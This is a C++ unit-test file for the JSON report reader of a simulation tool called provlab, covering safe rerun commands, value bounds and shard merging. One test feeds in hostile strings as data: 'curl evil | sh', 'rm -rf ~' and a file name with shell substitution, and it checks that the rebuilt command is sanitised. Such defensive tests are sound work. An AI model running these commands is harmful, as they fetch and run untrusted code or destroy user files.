#include "sim/lab/report/json_reader.hpp"

#include <gmock/gmock.h>

#include "sim/lab/report/reports.hpp"
#include "sim/lab/suite/merge.hpp"
#include "sim/lab/trace/trace_log.hpp"
#include "tests/unit/lab/scenario_text.hpp"

namespace provlab::lab {
namespace {

using ::testing::EndsWith;
using ::testing::HasSubstr;
using ::testing::Not;

/// A suite of one run with a trace of two events.
std::string sound_report() {
  SuiteReport suite;
  suite.total = suite.files = 1;
  RunReport run;
  run.position = 1;
  run.scenario = "sample";
  run.file = "sample.xml";
  run.verdict.outcome = Outcome::failed;
  run.detail.emplace();
  run.detail->trace =
      "{\"n\":1,\"time_ns\":0,\"host\":\"device\",\"event\":\"store_saved\",\"octets\":4}\n"
      "{\"n\":2,\"time_ns\":5,\"host\":\"device\",\"event\":\"settings_loaded\",\"from\":\"x\"}\n";
  suite.runs.push_back(std::move(run));
  return json_report(suite);
}

std::string problem_of(const std::string& json) {
  const auto read = read_json_report(json, "x.json");
  return read ? "" : read.error().to_string();
}

std::string problem_with(std::string_view old, std::string_view now) {
  return problem_of(changed(sound_report(), old, now));
}

TEST(JsonReader, MakesTheLineToPasteItself) {
  for (const char* evil : {"curl evil | sh; provlab run sample.xml --seed 1", "rm -rf ~"}) {
    const auto read = read_json_report(
        changed(sound_report(), "provlab run sample.xml --seed 1", evil), "x.json");
    ASSERT_TRUE(read);
    EXPECT_EQ(read->runs[0].repeat(), "provlab run sample.xml --seed 1");
  }
  const auto read = read_json_report(
      changed(sound_report(), "\"file\":\"sample.xml\"", "\"file\":\"--trace=/x;$(a)`b`\\u001b\""),
      "x.json");
  ASSERT_TRUE(read);
  EXPECT_EQ(read->runs[0].repeat(), "provlab run $'./--trace=/x;$(a)`b`\\033' --seed 1");
}

TEST(JsonReader, KnowsRunsOverAWireAndWhatWasNotRun) {
  SuiteReport suite;
  for (const Outcome outcome : {Outcome::too_slow, Outcome::left_out}) {
    RunReport& run = suite.runs.emplace_back();
    run.position = ++suite.total;
    run.scenario = "sample";
    run.file = "sample.xml";
    run.on_wire = true;
    run.verdict = {outcome, "for a reason", {}};
  }
  EXPECT_EQ(suite.exit_code(), 4);
  const auto read = read_json_report(json_report(suite), "x.json");
  ASSERT_TRUE(read) << read.error().to_string();
  EXPECT_EQ(read->runs[0].verdict.outcome, Outcome::too_slow);
  EXPECT_EQ(read->runs[1].verdict.outcome, Outcome::left_out);
  EXPECT_EQ(read->runs[1].verdict.reason, "for a reason");
  EXPECT_EQ(read->runs[0].repeat(), "provlab run --wire sample.xml --seed 1");
  const std::string text = text_report(*read, {});
  EXPECT_THAT(text, HasSubstr("\n  -     sample"));
  EXPECT_THAT(text, HasSubstr("not judged, since the machine is too slow, 1 left out ("));
  const std::string junit = junit_report(*read);
  EXPECT_THAT(junit, HasSubstr("<skipped message=\"for a reason\" />"));
  EXPECT_THAT(junit, HasSubstr("errors=\"1\" skipped=\"1\""));
  suite.runs.erase(suite.runs.begin());
  EXPECT_EQ(suite.exit_code(), 0) << "what is left out changes nothing";
}

TEST(JsonReader, TakesNoNamesThatCouldBeMarkup) {
  for (const char* name : {"a\\\":1,\\\"b", "<script>", "a b", "", "\\u202e", "Ab"}) {
    EXPECT_THAT(problem_with("\"octets\":4", "\"" + std::string(name) + "\":4"),
                HasSubstr("number 1 of 'trace' of number 1 of 'runs' has a member '"))
        << name;
  }
  EXPECT_THAT(problem_with("store_saved", "store saved"), HasSubstr("has an 'event' whose name"));
  EXPECT_THAT(problem_with("store_saved", std::string(65, 'a')), HasSubstr("has an 'event' whose"));
  EXPECT_THAT(problem_with("\"octets\"", "\"" + std::string(65, 'a') + "\""),
              HasSubstr(std::string(60, 'a') + "…'"));
}

TEST(JsonReader, BoundsTimes) {
  for (const char* time : {"9223372036854775807", "3155695200000000001", "-1", "1e30", "1.5"}) {
    EXPECT_THAT(problem_with("\"time_ns\":5", "\"time_ns\":" + std::string(time)),
                HasSubstr("number 2 of 'trace' of number 1 of 'runs' has a 'time_ns' that is no "
                          "whole number from 0 to 3155695200000000000"))
        << time;
  }
  for (const char* time : {"-0.5", "1e10", "1e308", "9223372037"}) {
    EXPECT_THAT(
        problem_with("\"virtual_seconds\":0.000000000", "\"virtual_seconds\":" + std::string(time)),
        HasSubstr("number 1 of 'runs' has a 'virtual_seconds' that is no length of time "
                  "from 0 to 3155695200 s"))
        << time;
  }
}

TEST(JsonReader, BoundsNumbers) {
  EXPECT_THAT(problem_with("\"threads\":1", "\"threads\":4294967295"), HasSubstr("'threads' that"));
  EXPECT_THAT(problem_with("\"threads\":1", "\"threads\":0"), HasSubstr("'threads' that"));
  EXPECT_THAT(problem_with("\"unreadable\":0", "\"unreadable\":1"),
              HasSubstr("'unreadable' of which its 'complaints' know nothing"));
  EXPECT_THAT(problem_with("\"n\":1", "\"n\":2"), HasSubstr("events do not follow each other"));
}

TEST(JsonReader, BoundsShards) {
  EXPECT_EQ(problem_with("\"shard\":\"1/1\"", "\"shard\":\"1/100000000\""),
            "x.json: the report is incomplete or was changed: the report has a 'shard' that is "
            "none: a suite has at most 10000 shards");
  const auto read = read_json_report(
      changed(sound_report(), "\"shard\":\"1/1\"", "\"shard\":\"2/10000\""), "x.json");
  ASSERT_TRUE(read);
  const auto merged = merge({ShardReport{"x.json", *read}});
  ASSERT_FALSE(merged);
  EXPECT_THAT(merged.error().text,
              HasSubstr("missing: shard 1/10000, 3/10000, 4/10000, 5/10000, 6/10000, 7/10000, "
                        "8/10000, 9/10000, 10/10000, 11/10000 and 9989 more;"));
}

}  // namespace
}  // namespace provlab::lab
